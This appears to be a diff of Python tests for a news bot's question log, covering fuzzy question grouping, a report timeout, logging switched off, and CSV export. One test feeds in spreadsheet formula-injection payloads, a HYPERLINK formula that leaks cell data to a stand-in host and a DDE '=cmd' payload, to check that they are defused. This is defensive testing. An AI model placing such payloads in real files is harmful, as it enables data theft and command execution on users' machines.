@@ -10,9 +10,12 @@ import io
 import json
 import logging
 import sqlite3
+import threading
 from collections.abc import Iterator
+from contextlib import closing
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from types import SimpleNamespace
 from typing import Any
 from zoneinfo import ZoneInfo
 
@@ -195,6 +198,67 @@ def test_report_needs_an_admin_key_and_aggregates_the_log(index_settings, qa, tm
     assert any(g["question"] == "Wo liegt Atlantis?" for g in everything["refused"])
 
 
+def test_grouping_compares_only_the_most_frequent_wordings(monkeypatch):
+    """A long log of distinct questions: the fuzzy grouping stays within MAX_SIMILAR**2 comparisons,
+    and the most asked group still comes first, with its other wording."""
+    import random
+    import string
+
+    from rapidfuzz import fuzz
+
+    from bot import feedback
+
+    compared = [0]
+
+    def counting(a: str, b: str, **kwargs: Any) -> float:
+        compared[0] += 1
+        return fuzz.token_set_ratio(a, b, **kwargs)
+
+    monkeypatch.setattr(feedback, "fuzz", SimpleNamespace(token_set_ratio=counting))
+    monkeypatch.setattr(feedback, "MAX_SIMILAR", 30)
+    rng = random.Random(15)
+
+    def word() -> str:
+        return "".join(rng.choice(string.ascii_lowercase) for _ in range(9))
+
+    t0 = datetime(2024, 5, 1, 9, 0, tzinfo=UTC)
+    asked = [("Wer hat in Belarus verhandelt?", t0)] * 6 + [("Wer verhandelte in Belarus?", t0)] * 3
+    asked += [("Was kostet die Fähre nach Helgoland?", t0)] * 2
+    asked += [(f"Was wurde aus {word()} und {word()}?", t0 + timedelta(minutes=i)) for i in range(300)]
+    groups = feedback.group_questions(asked)
+
+    assert 0 < compared[0] <= 30 * 30  # unbounded: about 300 * 300 / 2
+    top, second = groups[:2]
+    assert (top.question, top.count, top.variants) == (
+        "Wer hat in Belarus verhandelt?",
+        9,
+        ["Wer verhandelte in Belarus?"],
+    )
+    assert (second.question, second.count) == ("Was kostet die Fähre nach Helgoland?", 2)
+    assert sum(g.count for g in groups) == len(asked) and len(groups) == 2 + 300
+
+
+def test_the_report_runs_within_the_request_timeout(index_settings, qa, tmp_path, monkeypatch):
+    """``GET /v1/report`` is bounded like a question: past NEWSBOT_REQUEST_TIMEOUT it answers 504."""
+    settings = app_settings(index_settings, tmp_path / "log", request_timeout=0.5)
+    release = threading.Event()
+    app = create_app(settings, qa=qa)
+    with TestClient(app, raise_server_exceptions=False) as client:
+        log: QuestionLog = client.app.state.questions
+        report = log.report
+
+        def slow_report(**kwargs: Any) -> Any:
+            release.wait(timeout=30)  # held until the request has been answered
+            return report(**kwargs)
+
+        monkeypatch.setattr(log, "report", slow_report)
+        try:
+            response = client.get("/v1/report", headers={"X-API-Key": ADMIN})
+        finally:
+            release.set()
+        error(response, 504, "timeout")
+
+
 # ---- retention and switching the log off -----------------------------------------------------------
 
 
@@ -238,6 +302,37 @@ def test_logging_off_stores_nothing_and_feedback_says_why(index_settings, qa, tm
     assert not (tmp_path / "log" / FILE_NAME).exists()
 
 
+def rows_in(path: Path) -> int:
+    with closing(sqlite3.connect(path)) as db:
+        return int(db.execute("SELECT count(*) FROM questions").fetchone()[0])
+
+
+def test_logging_off_the_report_reads_the_kept_log_without_writing_it(tmp_path):
+    """Switched off, nothing is written: ``newsbot report`` neither creates the log nor purges it."""
+    off = {"NEWSBOT_LOG_QUESTIONS": "false"}
+    data = Path(Settings().data_dir)
+    nothing = invoke_cli("report", "--json", env=off)
+    assert nothing.returncode == 0, nothing.stderr
+    assert json.loads(nothing.stdout)["totals"]["questions"] == 0 and not (data / FILE_NAME).exists()
+
+    now = datetime.now(UTC)
+    when = [now - timedelta(days=100)]  # kept for a year here; past the 90 days `report` keeps
+    with QuestionLog(Settings(log_retention_days=365), clock=lambda: when[0]) as log:
+        log.record(refusal("Wo liegt Atlantis?"), front_end="cli")
+        when[0] = now - timedelta(days=1)
+        log.record(refusal("Wer hat in Belarus verhandelt?"), front_end="cli")
+    kept = (data / FILE_NAME).read_bytes()
+    assert rows_in(data / FILE_NAME) == 2
+
+    report = invoke_cli("report", "--json", env=off)
+    assert report.returncode == 0, report.stderr
+    shown = json.loads(report.stdout)
+    assert shown["logging"] is False and shown["totals"]["questions"] == 1  # the expired row is not shown ...
+    assert [g["question"] for g in shown["refused"]] == ["Wer hat in Belarus verhandelt?"]
+    assert "Question logging is off" in invoke_cli("report", env=off).stdout
+    assert (data / FILE_NAME).read_bytes() == kept and rows_in(data / FILE_NAME) == 2  # ... nor deleted
+
+
 def test_a_log_that_cannot_be_written_never_costs_the_answer(index_settings, qa, tmp_path, caplog):
     (tmp_path / "log" / FILE_NAME).mkdir(parents=True)  # SQLite cannot open a directory
     with TestClient(create_app(app_settings(index_settings, tmp_path / "log"), qa=qa)) as client:
@@ -251,6 +346,25 @@ def test_a_log_that_cannot_be_written_never_costs_the_answer(index_settings, qa,
 
 
 # ---- the command line --------------------------------------------------------------------------------
+
+
+def test_csv_cells_cannot_become_spreadsheet_formulas():
+    from bot.cli.feedback import _defused
+
+    formulas = ['=HYPERLINK("http://x/?"&A1,"click")', "+49 40 1234 Wer ruft an?", "-Wo? Wann?", "@SUMME(A1)"]
+    with QuestionLog(Settings()) as log:
+        for question in formulas:
+            log.record(refusal(question), front_end="cli")
+        answer_id = log.record(refusal("Wo liegt Atlantis?"), front_end="cli")
+        assert answer_id is not None
+        log.rate(answer_id, "wrong", front_end="cli", comment="=cmd|' /C calc'!A0")
+    rows = list(csv.DictReader(io.StringIO(invoke_cli("report", "--csv").stdout)))
+    refused = {r["item"] for r in rows if r["section"] == "refused"}
+    assert refused == {"'" + q for q in formulas} | {"Wo liegt Atlantis?"}
+    (wrong,) = [r for r in rows if r["section"] == "wrong"]
+    assert wrong["detail"] == "'=cmd|' /C calc'!A0" and wrong["item"] == "Wo liegt Atlantis?"
+    assert all(not r[k].startswith(("=", "+", "-", "@")) for r in rows for k in r)
+    assert [_defused(c) for c in ("\tx", "\rx", "x=1", "")] == ["'\tx", "'\rx", "x=1", ""]
 
 
 def test_cli_ask_and_repl_are_logged_reported_and_exported_for_eval(tmp_path):
